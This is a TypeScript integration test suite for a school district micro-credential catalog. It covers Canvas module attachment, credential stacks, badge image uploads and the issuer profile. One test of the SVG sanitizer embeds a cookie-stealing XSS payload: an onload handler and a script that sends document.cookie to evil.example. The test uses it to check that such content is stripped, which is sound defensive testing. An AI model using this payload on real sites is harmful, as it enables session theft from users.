import { startStack, type Stack } from '../support/stack';
import { apiAs, body, forgetAndStop, png, sandboxCourseReader, techLeaderI, type Api } from './support';

interface ErrorBody { error: { code: string; message: string; fields: Record<string, string> } }
interface View { id: string; state: string; current: { version: number; definition: ReturnType<typeof techLeaderI> }; pendingDraft: { version: number; definition: ReturnType<typeof techLeaderI> } | null }

describe('attaching micro-credentials to Canvas, stacks and badge images', () => {
  let stack: Stack;
  let designer: Api;
  const published: Record<string, string> = {};
  beforeAll(async () => {
    stack = await startStack();
    stack.tool.app.catalog.setCourseReader(sandboxCourseReader(stack));
    designer = await apiAs(stack, '2');
    for (const name of ['Tech Leader I', 'Tech Leader II', 'Tech Leader III']) {
      const v = await body<View>(await designer.api('/api/catalog/credentials', { method: 'POST', json: techLeaderI({ name }) }));
      await designer.api(`/api/catalog/credentials/${v.id}/publish`, { method: 'POST' });
      published[name] = v.id;
    }
  });
  afterAll(() => forgetAndStop(stack));

  describe('attach', () => {
    it('stores the modules and the evidence assignment after checking them with Canvas', async () => {
      const id = published['Tech Leader I']!;
      const res = await designer.api(`/api/catalog/credentials/${id}/attachment`, { method: 'PUT', json: { moduleIds: ['1001', '1002', '1003', '1004', '1005'], assignmentId: '2005' } });
      expect(res.status).toBe(200);
      expect((await body<{ attachment: unknown }>(res)).attachment).toMatchObject({ moduleIds: ['1001', '1002', '1003', '1004', '1005'], assignmentId: '2005', canvasCourseId: '101', rubricImported: false });
      const stored = await body(await designer.api(`/api/catalog/credentials/${id}/attachment`));
      expect(stored).toMatchObject({ assignmentId: '2005', moduleIds: ['1001', '1002', '1003', '1004', '1005'] });
      // The designer's own Canvas token was used, with a User-Agent (the sandbox refuses requests without one).
      expect(stack.sandbox.requests.some((r) => r.path === '/api/v1/courses/101/modules' && r.status === 200 && r.tokenKind === 'oauth' && r.userId === 2)).toBe(true);
    });

    it('refuses modules from another course', async () => {
      const res = await designer.api(`/api/catalog/credentials/${published['Tech Leader I']}/attachment`, { method: 'PUT', json: { moduleIds: ['1001', '1101'], assignmentId: '2005' } });
      expect(res.status).toBe(400);
      expect((await body<ErrorBody>(res)).error.fields.moduleIds).toBe('Module 1101 is not in this course. Choose modules from “Tech Leader I” (modules from another course cannot be required).');
    });

    it('refuses an unpublished assignment, and an assignment of another course', async () => {
      stack.sandbox.data.assignment(2004)!.published = false;
      const res = await designer.api(`/api/catalog/credentials/${published['Tech Leader I']}/attachment`, { method: 'PUT', json: { moduleIds: ['1004'], assignmentId: '2004' } });
      expect(res.status).toBe(400);
      expect((await body<ErrorBody>(res)).error.fields.assignmentId).toBe('“Build a Canvas module” is an unpublished assignment. Publish it in Canvas first, so earners can submit their evidence.');
      const other = await designer.api(`/api/catalog/credentials/${published['Tech Leader I']}/attachment`, { method: 'PUT', json: { moduleIds: ['1004'], assignmentId: '2101' } });
      expect((await body<ErrorBody>(other)).error.fields.assignmentId).toMatch(/not in this course/);
      const shape = await designer.api(`/api/catalog/credentials/${published['Tech Leader I']}/attachment`, { method: 'PUT', json: { moduleIds: ['../1'], assignmentId: '' } });
      expect((await body<ErrorBody>(shape)).error.fields).toMatchObject({ 'moduleIds.0': 'Canvas module ids are digits.', assignmentId: 'Choose the evidence assignment.' });
    });

    it('imports the assignment’s Canvas rubric as a new version of a published credential', async () => {
      const id = published['Tech Leader I']!;
      const res = await designer.api(`/api/catalog/credentials/${id}/attachment`, { method: 'PUT', json: { moduleIds: ['1006'], assignmentId: '2005', importRubric: true } });
      expect(res.status).toBe(200);
      const { credential, attachment } = await body<{ credential: View; attachment: { rubricImported: boolean } }>(res);
      expect(attachment.rubricImported).toBe(true);
      expect(credential.current.version).toBe(1);
      expect(credential.pendingDraft!.version).toBe(2);
      expect(credential.pendingDraft!.definition.rubric.criteria.map((c) => [c.id, c.title, c.requiredLevelId])).toEqual([
        ['_10', 'Digital citizenship lesson', 'name_3'],
        ['_11', 'FERPA and CIPA in practice', 'name_5'],
        ['_12', 'Core Google Workspace', 'name_7'],
        ['_13', 'Navigating Canvas', 'name_9'],
      ]);
    });

    it('says plainly, with where to connect, when the district has not set up Canvas API access', async () => {
      const second = await startStack();
      try {
        const d = await apiAs(second, '2');
        const v = await body<View>(await d.api('/api/catalog/credentials', { method: 'POST', json: techLeaderI() }));
        const res = await d.api(`/api/catalog/credentials/${v.id}/attachment`, { method: 'PUT', json: { moduleIds: ['1001'], assignmentId: '2005' } });
        expect(res.status).toBe(401);
        const error = (await body<ErrorBody & { error: { connectUrl?: string } }>(res)).error;
        expect(error.message).toMatch(/Canvas API access is not set up for your district yet/);
        expect(error.connectUrl).toMatch(/\/canvas\/connect$/);
      } finally {
        await forgetAndStop(second);
      }
    });
  });

  describe('stacks', () => {
    const members = (...names: string[]) => names.map((n) => ({ credentialId: published[n]! }));

    it('creates and publishes an ordered stack', async () => {
      const res = await designer.api('/api/catalog/stacks', { method: 'POST', json: { name: 'Tech Leader', description: 'I, then II, then III.', kind: 'ordered', members: members('Tech Leader I', 'Tech Leader II', 'Tech Leader III') } });
      expect(res.status).toBe(201);
      const s = await body<{ id: string; state: string; requiredCount: null; members: { name: string; position: number }[] }>(res);
      expect(s).toMatchObject({ state: 'draft', requiredCount: null, members: [{ name: 'Tech Leader I', position: 1 }, { name: 'Tech Leader II', position: 2 }, { name: 'Tech Leader III', position: 3 }] });
      const pub = await body<{ state: string }>(await designer.api(`/api/catalog/stacks/${s.id}/publish`, { method: 'POST' }));
      expect(pub.state).toBe('published');
      const img = await designer.api(`/api/catalog/stacks/${s.id}/image`);
      expect(img.headers.get('content-type')).toMatch(/^image\/svg\+xml/);
      expect(await img.text()).toContain('>Tech Leader</text>');
    });

    it('creates an N-of-M stack with a prerequisite and edits it', async () => {
      const json = { name: 'Any two', kind: 'n_of_m', requiredCount: 2, members: [{ credentialId: published['Tech Leader I']! }, { credentialId: published['Tech Leader II']!, prerequisiteIds: [published['Tech Leader I']!] }, { credentialId: published['Tech Leader III']! }] };
      const s = await body<{ id: string; kind: string; requiredCount: number; members: { prerequisiteIds: string[] }[] }>(await designer.api('/api/catalog/stacks', { method: 'POST', json }));
      expect(s).toMatchObject({ kind: 'n_of_m', requiredCount: 2 });
      expect(s.members[1]!.prerequisiteIds).toEqual([published['Tech Leader I']]);
      const edited = await designer.api(`/api/catalog/stacks/${s.id}`, { method: 'PUT', json: { ...json, requiredCount: 3 } });
      expect((await body<{ requiredCount: number }>(edited)).requiredCount).toBe(3);
      const tooMany = await designer.api(`/api/catalog/stacks/${s.id}`, { method: 'PUT', json: { ...json, requiredCount: 4 } });
      expect((await body<ErrorBody>(tooMany)).error.fields.requiredCount).toBe('Choose how many of the 3 micro-credentials earn the stack (1 to 3).');
    });

    it('refuses a stack that contains itself, an empty stack, and a member from nowhere', async () => {
      const I = published['Tech Leader I']!;
      const II = published['Tech Leader II']!;
      const loop = await designer.api('/api/catalog/stacks', { method: 'POST', json: { name: 'Loop', kind: 'n_of_m', requiredCount: 1, members: [{ credentialId: I, prerequisiteIds: [II] }, { credentialId: II, prerequisiteIds: [I] }] } });
      expect(loop.status).toBe(400);
      expect((await body<ErrorBody>(loop)).error.fields['members.0.prerequisiteIds']).toBe('A stack cannot contain itself: “Tech Leader I” requires “Tech Leader II” requires “Tech Leader I”.');
      const self = await designer.api('/api/catalog/stacks', { method: 'POST', json: { name: 'Self', kind: 'ordered', members: [{ credentialId: I, prerequisiteIds: [I] }] } });
      expect((await body<ErrorBody>(self)).error.fields['members.0.prerequisiteIds']).toMatch(/cannot contain itself/);
      const empty = await designer.api('/api/catalog/stacks', { method: 'POST', json: { name: 'Empty', kind: 'ordered', members: [] } });
      expect((await body<ErrorBody>(empty)).error.fields.members).toBe('Add at least one micro-credential to the stack.');
      const nowhere = await designer.api('/api/catalog/stacks', { method: 'POST', json: { name: 'Nowhere', kind: 'ordered', members: [{ credentialId: '00000000-0000-4000-8000-000000000000' }] } });
      expect((await body<ErrorBody>(nowhere)).error.fields['members.0.credentialId']).toMatch(/not found/);
    });

    it('publishes a stack only when every member is published', async () => {
      const draft = await body<View>(await designer.api('/api/catalog/credentials', { method: 'POST', json: techLeaderI({ name: 'Still a draft' }) }));
      const s = await body<{ id: string }>(await designer.api('/api/catalog/stacks', { method: 'POST', json: { name: 'Half ready', kind: 'ordered', members: [{ credentialId: published['Tech Leader I']! }, { credentialId: draft.id }] } }));
      const res = await designer.api(`/api/catalog/stacks/${s.id}/publish`, { method: 'POST' });
      expect(res.status).toBe(400);
      expect((await body<ErrorBody>(res)).error.fields['members.1.credentialId']).toBe('Publish “Still a draft” before publishing the stack.');
    });
  });

  describe('badge images', () => {
    it('accepts a real PNG and serves it back', async () => {
      const bytes = png(8, 6);
      const res = await designer.api('/api/catalog/images', { method: 'POST', json: { contentType: 'image/png', base64: bytes.toString('base64') } });
      expect(res.status).toBe(201);
      const img = await body<{ id: string; width: number; height: number; bytes: number; removed: string[] }>(res);
      expect(img).toMatchObject({ width: 8, height: 6, bytes: bytes.length, removed: [] });
      const served = await designer.api(`/api/catalog/images/${img.id}`);
      expect(served.headers.get('content-type')).toBe('image/png');
      expect(Buffer.from(await served.arrayBuffer()).equals(bytes)).toBe(true);
    });

    it('refuses a text file renamed to .png', async () => {
      const res = await designer.api('/api/catalog/images', { method: 'POST', json: { contentType: 'image/png', base64: Buffer.from('Meeting notes, not a badge.').toString('base64') } });
      expect(res.status).toBe(400);
      expect((await body<ErrorBody>(res)).error.fields.image).toBe('This file is not a PNG image. Upload a PNG or an SVG.');
    });

    it('refuses an image larger than 1 MB with a message on the field', async () => {
      const big = Buffer.concat([png(), Buffer.alloc(1024 * 1024)]);
      const res = await designer.api('/api/catalog/images', { method: 'POST', json: { contentType: 'image/png', base64: big.toString('base64') } });
      expect(res.status).toBe(400);
      expect((await body<ErrorBody>(res)).error.fields.image).toBe('Badge images can be at most 1 MB.');
    });

    it('sanitizes an SVG with a script: stores it without the script and says what it removed', async () => {
      const svg = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 64 64" onload="alert(document.cookie)"><script>fetch("https://evil.example/?c="+document.cookie)</script><circle cx="32" cy="32" r="30" fill="#0374B5"/></svg>';
      const res = await designer.api('/api/catalog/images', { method: 'POST', json: { contentType: 'image/svg+xml', base64: Buffer.from(svg).toString('base64') } });
      expect(res.status).toBe(201);
      const img = await body<{ id: string; removed: string[]; width: number }>(res);
      expect(img.removed).toEqual(['attribute onload (script)', 'element <script>']);
      expect(img.width).toBe(64);
      const served = await designer.api(`/api/catalog/images/${img.id}`);
      const text = await served.text();
      expect(text).toBe('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 64 64"><circle cx="32" cy="32" r="30" fill="#0374B5"/></svg>');
      expect(served.headers.get('content-security-policy')).toContain("default-src 'none'");
      // Used as a credential's badge.
      const v = await body<View>(await designer.api('/api/catalog/credentials', { method: 'POST', json: techLeaderI({ name: 'With uploaded SVG', image: { kind: 'upload', imageId: img.id } }) }));
      expect(await (await designer.api(`/api/catalog/credentials/${v.id}/image`)).text()).toBe(text);
    });

    it('draws a generated badge from the name and level', async () => {
      const v = await body<View>(await designer.api('/api/catalog/credentials', { method: 'POST', json: techLeaderI({ name: 'Tech Leader <I>', image: { kind: 'generated', level: 'Level I' } }) }));
      const svg = await (await designer.api(`/api/catalog/credentials/${v.id}/image`)).text();
      expect(svg).toContain('Tech Leader &lt;I&gt;');
      expect(svg).toContain('Level I');
    });
  });

  describe('issuer profile', () => {
    it('shows the tenant’s name until an admin sets the district profile', async () => {
      const before = await body(await designer.api('/api/catalog/issuer'));
      expect(before).toMatchObject({ configured: false, name: 'Sandbox District' });
      expect((await designer.api('/api/catalog/issuer', { method: 'PUT', json: { name: 'x', url: 'https://x.example', email: 'a@x.example' } })).status).toBe(403);
      const admin = await apiAs(stack, '1');
      const bad = await admin.api('/api/catalog/issuer', { method: 'PUT', json: { name: '', url: 'qcps', email: 'nope' } });
      expect(Object.keys((await body<ErrorBody>(bad)).error.fields).sort()).toEqual(['email', 'name', 'url']);
      const set = await admin.api('/api/catalog/issuer', { method: 'PUT', json: { name: 'Queen City Public Schools', url: 'https://qcps.example.org', email: 'badges@qcps.example.org', description: 'Professional learning office' } });
      expect(set.status).toBe(200);
      expect(await body(await designer.api('/api/catalog/issuer'))).toMatchObject({ configured: true, name: 'Queen City Public Schools', email: 'badges@qcps.example.org' });
    });
  });
});
